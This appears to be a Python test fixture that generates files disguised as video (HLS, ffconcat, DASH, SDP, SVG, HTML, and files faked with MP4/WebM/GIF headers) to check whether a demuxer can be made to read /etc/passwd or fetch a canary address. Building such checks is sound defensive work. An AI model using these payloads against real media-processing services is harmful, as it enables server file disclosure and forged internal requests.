"""Files that claim to be videos and would make an unprotected demuxer open other files or URLs."""

from __future__ import annotations

import struct

NAMES = (
    "playlist",
    "local playlist",
    "concat",
    "manifest",
    "session",
    "vector",
    "page",
    "film",
    "pages",
    "mask",
)


def files(canary: str) -> dict[str, bytes]:
    """Return the files by name; each refers to the address `canary`, or to a file of this machine."""
    local = "file:///etc/passwd"
    playlist = "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n{}\n#EXT-X-ENDLIST\n"
    concat = f"ffconcat version 1.0\nfile '{local}'\nfile '{canary}/concat.mp4'\n"
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{canary}/x.png"/></svg>'
    manifest = f'<?xml version="1.0"?><MPD><Period><BaseURL>{canary}/dash.mp4</BaseURL></Period></MPD>'
    box = struct.pack(">I4s4sI", 16, b"ftyp", b"isom", 0)
    return {
        "playlist": playlist.format(f"{canary}/x.ts").encode(),
        "local playlist": playlist.format(f"concat:{local}|{canary}/x.ts").encode(),
        "concat": concat.encode(),
        "manifest": manifest.encode(),
        "session": f"v=0\nc=IN IP4 127.0.0.1\nm=video 5004 RTP/AVP 96\na=control:{canary}\n".encode(),
        "vector": svg.encode(),
        "page": f"<html><video src='{canary}/x.mp4'></html>".encode(),
        "film": box + playlist.format(f"{canary}/inner.ts").encode(),
        "pages": b"\x1aE\xdf\xa3\x84" + concat.encode(),
        "mask": b"GIF89a" + concat.encode(),
    }
